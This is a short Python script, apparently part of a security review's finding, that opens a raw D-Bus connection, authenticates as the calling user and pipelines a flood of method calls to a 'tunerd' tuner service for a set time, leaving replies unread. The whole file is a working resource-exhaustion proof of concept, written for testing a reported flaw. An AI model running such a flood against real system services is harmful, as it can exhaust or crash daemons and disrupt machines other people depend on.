# dbflood.py SOCKET MEMBER SECONDS WINDOW: the security review's raw pipelining D-Bus client
# (finding 3), bounded by time instead of a call count. AUTH EXTERNAL as the caller's uid,
# Hello, then calls to org.tunerd.Tuner1.MEMBER with up to WINDOW outstanding, for SECONDS;
# then it exits without waiting for the replies still owed. Run as nobody (setpriv).
import os, select, socket, struct, sys, time


def pad(b, a):
    return b + b"\0" * ((-len(b)) % a)


def s_str(s):
    e = s.encode()
    return struct.pack("<I", len(e)) + e + b"\0"


def sig(s):
    e = s.encode()
    return bytes([len(e)]) + e + b"\0"


def msg(serial, member, path="/org/tunerd/Tuner1", iface="org.tunerd.Tuner1",
        dest="org.tunerd.Tuner1"):
    f = b""
    for code, t, val in ((1, "o", path), (2, "s", iface), (3, "s", member), (6, "s", dest)):
        f = pad(f, 8) + bytes([code]) + sig(t) + s_str(val)
    return pad(b"l\x01\x00\x01" + struct.pack("<III", 0, serial, len(f)) + f, 8)


addr, member, seconds, window = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(addr)
s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert s.recv(4096).startswith(b"OK")
s.sendall(b"BEGIN\r\n" + msg(1, "Hello", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                             "org.freedesktop.DBus"))
sent, got, buf, t0 = 1, 0, b"", time.time()
end = t0 + seconds
while time.time() < end:
    while sent - got <= window:
        sent += 1
        s.sendall(msg(sent, member))
    r, _, _ = select.select([s], [], [], max(0.0, end - time.time()))
    if not r:
        break
    d = s.recv(1 << 20)
    if not d:
        break
    buf += d
    while len(buf) >= 16:
        blen, flen = struct.unpack("<I", buf[4:8])[0], struct.unpack("<I", buf[12:16])[0]
        total = 16 + flen + ((-flen) % 8) + blen
        if len(buf) < total:
            break
        got += buf[1] in (2, 3)
        buf = buf[total:]
print("%s: %d replies in %.1fs" % (member, got, time.time() - t0))
